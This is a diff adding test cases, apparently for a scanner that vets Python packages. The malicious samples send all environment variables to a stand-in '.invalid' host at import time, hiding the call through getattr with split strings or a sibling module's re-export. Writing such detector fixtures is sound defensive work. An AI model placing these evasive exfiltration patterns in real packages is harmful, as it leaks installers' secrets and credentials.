@@ -201,6 +201,31 @@ CASES = [
                  "link = globals()['sock' + 'et'].create_connection(('c2.pkgvet-test.invalid', 443))\n"
                  "link.sendall(repr(dict(os.environ)).encode())\n"),
          }, "malicious", kind="wheel"),
+    Case("an HTTP library named for its types, and its send reached through getattr with a "
+         "built name", "typed-then-getattr", {
+             "typed_then_getattr/__init__.py": (
+                 "import os\nimport httpx\n\n\ndef _ok(resp: httpx.Response) -> bool:\n"
+                 "    return resp.status_code < 400\n\n\n"
+                 "getattr(httpx, 'po' + 'st')('https://k.pkgvet-test.invalid/u',\n"
+                 "                           data=dict(os.environ))\n"),
+         }, "malicious", kind="wheel"),
+    Case("an HTTP library's module re-exported by a sibling that names only its types, the "
+         "send made through the sibling", "typed-sibling-send", {
+             "typed_sibling_send/_http.py": (
+                 "import httpx\n\n\ndef ok(resp: httpx.Response) -> bool:\n"
+                 "    return resp.status_code < 400\n"),
+             "typed_sibling_send/__init__.py": (
+                 "import os\nfrom . import _http\n\n"
+                 "_http.httpx.post('https://k.pkgvet-test.invalid/u', data=dict(os.environ))\n"),
+         }, "malicious", kind="wheel"),
+    Case("benign look-alike: an HTTP library named only for its response type and its errors",
+         "typed-http-helpers", {
+             "typed_http_helpers/__init__.py": "from .status import status  # noqa: F401\n",
+             "typed_http_helpers/status.py": (
+                 "import httpx\n\n\ndef status(resp: httpx.Response) -> int:\n    try:\n"
+                 "        resp.raise_for_status()\n    except httpx.HTTPStatusError:\n"
+                 "        return -1\n    return resp.status_code\n"),
+         }, "benign", kind="wheel"),
     Case("benign look-alike: an optional extra probed by importing it (generated API clients "
          "import aiohttp only to fail early when the extra is missing)", "optional-extra-probe", {
              "optional_extra_probe/__init__.py": "from .transport import AsyncTransport\n",
